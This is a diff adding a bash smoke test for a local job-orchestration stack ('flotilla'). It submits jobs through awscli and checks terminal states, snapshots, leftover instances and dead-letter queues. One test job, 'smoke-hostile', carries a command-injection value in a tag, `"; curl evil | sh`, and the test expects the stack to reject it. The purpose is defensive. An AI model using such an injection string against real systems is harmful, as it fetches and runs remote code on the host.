@@ -1,0 +1,115 @@
+#!/usr/bin/env bash
+# End-to-end check of the local stack as a user drives it: `local_stack.py up`,
+# jobs submitted with plain awscli (no flotilla CLI), each followed to its
+# terminal state through the job record in S3, then no managed instance may
+# be left running and no job message may sit in a DLQ. Run by `make smoke`,
+# which `make test` calls.
+set -euo pipefail
+cd "$(dirname "$0")/.."
+PY=.venv/bin/python
+AWS=.venv/bin/aws
+
+trap '$PY tools/local_stack.py down' EXIT
+$PY tools/local_stack.py up
+source .flotilla/local.env
+# awscli v1 ignores AWS_ENDPOINT_URL, so it is passed explicitly.
+aws_local() { "$AWS" --endpoint-url "$AWS_ENDPOINT_URL" "$@"; }
+
+submit() { # body -> prints the SQS MessageId
+  aws_local sqs send-message --queue-url "$FLOTILLA_JOBS_QUEUE_URL" --message-body "$1" \
+    --query MessageId --output text
+}
+
+record_field() { # job id, field -> value, or empty while the record does not exist
+  aws_local s3 cp "s3://$FLOTILLA_BUCKET/jobs/$1/job.json" - 2>/dev/null |
+    $PY -c "import json,sys; print(json.load(sys.stdin).get('$2') or '')" 2>/dev/null || true
+}
+
+wait_terminal() { # job id, seconds -> prints the terminal state
+  local deadline=$(( $(date +%s) + $2 )) state=""
+  while [ "$(date +%s)" -lt "$deadline" ]; do
+    state=$(record_field "$1" state)
+    case "$state" in SUCCEEDED|FAILED|CANCELLED|REJECTED) echo "$state"; return 0 ;; esac
+    sleep 1
+  done
+  echo "TIMEOUT(${state:-no record})"
+}
+
+spec() { # id, run script, [snapshot policy]
+  $PY - "$@" <<'EOF'
+import json, sys
+job_id, script = sys.argv[1], sys.argv[2]
+policy = sys.argv[3] if len(sys.argv) > 3 else "on-success"
+print(json.dumps({
+    "id": job_id,
+    "fleet": {"count": 2},
+    "instance_types": ["t3.micro"],
+    "image": "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64",
+    "volumes": [{"name": "data", "source": {"new": {"size_gib": 1}}, "device": "/dev/sdf",
+                 "mount_point": "/data", "snapshot": policy}],
+    "run": {"script": script, "timeout_seconds": 300},
+    "deadline_minutes": 10,
+}))
+EOF
+}
+
+failures=0
+expect() { # job id, wanted state, seconds
+  local got
+  got=$(wait_terminal "$1" "$3")
+  if [ "$got" = "$2" ]; then
+    echo "ok   $1: $got ($(record_field "$1" reason))"
+  else
+    echo "FAIL $1: wanted $2, got $got ($(record_field "$1" reason))"
+    failures=$((failures + 1))
+  fi
+}
+
+echo "== submitting with awscli"
+submit "$(spec smoke-ok 'echo "shard $FLOTILLA_SHARD_INDEX done"')" >/dev/null
+submit "$(spec smoke-fail 'echo failing on purpose; exit 3' always)" >/dev/null
+submit "$(spec smoke-cancel 'sleep 240')" >/dev/null
+malformed_id=$(submit '{"fleet": {"count": 2}, "instance_types": ["t3.micro"')
+submit '{"id": "smoke-hostile", "fleet": {"count": 1}, "instance_types": ["t3.micro"], "image": "ami-0abcdef1234567890", "tags": {"team": "x\"; curl evil | sh"}, "run": {"commands": [["echo", "hi"]]}, "deadline_minutes": 5}' >/dev/null
+
+# Cancel once the long job is really running its command.
+deadline=$(( $(date +%s) + 120 ))
+until [ "$(record_field smoke-cancel state)" = RUNNING ] || [ "$(date +%s)" -ge "$deadline" ]; do sleep 1; done
+submit '{"cancel": "smoke-cancel"}' >/dev/null
+
+echo "== waiting for terminal states"
+expect smoke-ok SUCCEEDED 180
+expect smoke-fail FAILED 180
+expect smoke-cancel CANCELLED 180
+expect "job-$malformed_id" REJECTED 60
+expect smoke-hostile REJECTED 60
+
+echo "== what is left in the emulator"
+if ! $PY tools/inventory.py; then
+  echo "FAIL managed instances are still running"
+  failures=$((failures + 1))
+fi
+snapshots() { # job id -> how many snapshots carry its tag
+  aws_local ec2 describe-snapshots --owner-ids self --filters "Name=tag:flotilla:job-id,Values=$1" \
+    --query 'length(Snapshots)' --output text
+}
+for want in "smoke-ok 2" "smoke-fail 2" "smoke-cancel 0" "smoke-hostile 0"; do
+  set -- $want
+  got=$(snapshots "$1")
+  if [ "$got" = "$2" ]; then echo "ok   $1: $got snapshot(s)"; else echo "FAIL $1: $got snapshot(s), wanted $2"; failures=$((failures + 1)); fi
+done
+hostile_instances=$(aws_local ec2 describe-instances --filters "Name=tag:flotilla:job-id,Values=smoke-hostile" \
+  --query 'length(Reservations)' --output text)
+if [ "$hostile_instances" = 0 ]; then echo "ok   rejected jobs launched nothing"; else echo "FAIL a rejected job launched instances"; failures=$((failures + 1)); fi
+for dlq in flotilla-jobs-dlq flotilla-launch-dlq flotilla-readiness-dlq flotilla-command-dlq flotilla-teardown-dlq; do
+  url=$(aws_local sqs get-queue-url --queue-name "$dlq" --query QueueUrl --output text)
+  depth=$(aws_local sqs get-queue-attributes --queue-url "$url" --attribute-names ApproximateNumberOfMessages \
+    --query Attributes.ApproximateNumberOfMessages --output text)
+  if [ "$depth" != 0 ]; then echo "FAIL $dlq holds $depth message(s)"; failures=$((failures + 1)); fi
+done
+
+if [ "$failures" -ne 0 ]; then
+  echo "local smoke: $failures check(s) failed; logs in .flotilla/logs/"
+  exit 1
+fi
+echo "local smoke: every awscli-submitted job reached its expected state; nothing left running"
